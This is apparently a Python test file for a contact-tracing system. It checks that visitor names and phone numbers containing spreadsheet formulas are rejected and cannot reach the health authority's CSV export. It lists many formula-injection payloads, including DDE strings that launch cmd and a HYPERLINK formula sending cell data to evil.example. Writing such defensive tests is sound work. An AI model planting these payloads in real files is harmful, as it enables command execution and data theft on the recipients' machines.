"""A8: formulas in visitor-chosen text reach the health office's spreadsheet."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import sqlalchemy as sql
from click.testing import CliRunner

from escrow.authority.contacts import VISITS
from protocol.assisted_check_ins import AssertedRecord
from protocol.epochs import Role
from protocol.handles import IdentityRecord
from protocol.primitives.encoding import encode_item
from tests.attacks.malicious import admit_with_records
from tests.attacks.refusals import refusal
from tests.support.codes import code_in_force
from tests.support.contacts import asserted
from tests.support.investigations import export, trace
from tests.support.running import run
from tests.support.servers import World, open_door
from tests.support.town import Town
from tests.support.venues import only
from venue.__main__ import cli

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"홍길동")',
    'DDE("cmd";"/C calc";"1")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "홍길동\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1＋1",
    "＋1",
    "－1＋1",
    "﹣1",
    "＠SUM(1)",
    "﹫SUM(1)",
    "⁼1",
    "₊1",
    "−1",
    "홍길동;=1+1",
    "홍길동,=1+1",
    "홍길동|=1+1",
    "홍길동\t=1+1",
    "홍길동：=1",
    "홍길동；＝1",
    "홍길동，＝1",
    '"=1+1',
    '",=1+1,"',
    '"";=1+1;""',
    "'=1+1",
    "“=1",
    '\\"=1',
    "`=1",
    "\x00=1",
    "\x0b=1",
    "\x85=1",
    "\u2028=1",
    "sep=;",
    "%0A=1",
]
ACCEPTED_BUT_ODD = ["-2-3", "-", "'", ".", "·-1", "'-1", "-홍길동"]
"""These are no formulas that do anything, and a person might be called so; they begin with a sign nonetheless."""
PHONES = ["=1+1", "+1;=1+1", "@123", "+1\t=1", "+1\r\n=1", "-12345", "+8210=1+1", "+1,=1"]
SEPARATORS = [",", ";", "|", "\t"]
SIGNS = "=+-@\t\r\n|%\"';,"
INVISIBLE = {"Zs", "Cf", "Cc"}


def test_a08_the_operator_refuses_formulas(world: World) -> None:
    """The visitor enrols under a name, or a number, that is a formula.

    Happened: luca, May and June 2021; the first fix missed separators. Answer: a name is letters, marks, digits and a
    few signs, a number is digits (§5.3).
    """

    async def enrol(number: int, name: str) -> str:
        phone = f"+8210{number:08}"
        code = code_in_force(world.operator.accounts, phone, world.now)
        return await refusal(world.post(Role.OPERATOR, "/v1/sessions", encode_item([phone, code, name])))

    async def attack() -> tuple[dict[str, str], dict[str, str]]:
        by_name = {name: await enrol(number, name) for number, name in enumerate(FORMULAS)}
        asked = {phone: encode_item([phone]) for phone in PHONES}
        by_phone = {
            phone: await refusal(world.post(Role.OPERATOR, "/v1/verifications", body)) for phone, body in asked.items()
        }
        return by_name, by_phone

    by_name, by_phone = run(attack())
    assert set(by_name.values()) == {"invalid-name"}
    assert set(by_phone.values()) <= {"invalid-phone", "malformed-encoding"}
    with world.operator.engine.begin() as connection:
        assert connection.scalar(sql.text("SELECT count(*) FROM accounts")) == 0


def test_a08_a_malicious_operators_records_are_harmless_in_the_spreadsheet(world: World, tmp_path: Path) -> None:
    """The operator itself signs the formulas, as names and as phones; the authority traces, exports, and opens the
    file with whatever separator its spreadsheet takes.

    Happened: as above. Answer: the export keeps letters, marks, digits and a few signs, and every cell begins with a
    letter or digit (§5.4).
    """
    names = [*FORMULAS, *ACCEPTED_BUT_ODD]
    with open_door(world) as door:

        async def attack() -> bytes:
            people = await world.visitors_with_passes(2)
            key = await world.epoch_key()
            records = [
                IdentityRecord(
                    world.settings.number, key.epoch, key.X, f"{PHONES[number % len(PHONES)]}{number}", name, key.epoch
                )
                for number, name in enumerate(names)
            ]
            await admit_with_records(world, door, *records)
            await door.admit(people[0][1][0])
            return (await trace(world, door.record.venue_id))[0]

        file = tmp_path / "contacts.csv"
        export(world, run(attack()), file)
    text = file.read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(names) + 1
    assert {len(row) for row in rows} == {len(VISITS)}
    assert not [cell for cell in cells(text) if begins_a_formula(cell)]


def test_a08_the_venue_asks_again_for_what_is_no_name(town: Town) -> None:
    """A visitor tells door staff formulas, and staff type them.

    Happened: as above. Answer: the door takes names and numbers of the same form as the operator (§5.3, §6.1).
    """
    club = town.open_venue()
    typed = "".join(f"{name}\n" for name in FORMULAS if "\n" not in name and "\r" not in name)
    result = CliRunner().invoke(cli, ["--home", str(club.home), "admit"], input=typed)
    assert result.exit_code == 1
    assert "is this right?" not in result.output
    assert only(club.venue).store.days() == []


def test_a08_a_malicious_venues_assertions_are_harmless_in_the_spreadsheet(town: Town, tmp_path: Path) -> None:
    """The venue's own device seals formulas, as names and as phones; the authority traces and exports.

    Happened: as above. Answer: the export treats what a venue asserted like everything else (§5.4).
    """
    club = town.open_venue()
    names = [*FORMULAS, *ACCEPTED_BUT_ODD]
    for number, name in enumerate(names):
        phone = f"{PHONES[number % len(PHONES)]}{number}"
        assert club.venue.gate.admit(only(club.venue).door, AssertedRecord(name, phone), town.now) is not None
    file = tmp_path / "contacts.csv"
    warrant, findings = run(trace(town.world, club.id))
    assert len(asserted(findings)) == len(names)
    export(town.world, warrant, file)
    text = file.read_text("utf-8-sig")
    assert {len(row) for row in csv.reader(io.StringIO(text))} == {len(VISITS)}
    assert not [cell for cell in cells(text) if begins_a_formula(cell)]


def cells(text: str) -> set[str]:
    """The cells of a file under every separator and way of quoting, as they are and as compatible characters."""
    found: set[str] = set()
    for form in (text, unicodedata.normalize("NFKC", text)):
        for separator in SEPARATORS:
            for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
                for row in csv.reader(io.StringIO(form), delimiter=separator, quoting=quoting):
                    found.update(row)
    return found


def begins_a_formula(cell: str) -> bool:
    """Whether a cell begins with a sign, behind quotes and what nobody sees."""
    visible = cell.lstrip('"')
    while visible and unicodedata.category(visible[0]) in INVISIBLE:
        visible = visible[1:]
    return unicodedata.normalize("NFKC", visible)[:1] in tuple(SIGNS)


def test_a08_the_check_of_this_file_finds_formulas() -> None:
    """The check that the export passes is one that fails for what luca wrote, and for its first fix."""
    unfixed = 'name,phone\r\n=cmd|"/C calc"!A0,+4912345\r\n'
    first_fix = "name,phone\r\n'=1+1,'+49\r\nHans;=1+1,1\r\n"
    for text in (unfixed, first_fix):
        assert [cell for cell in cells(text) if begins_a_formula(cell)]
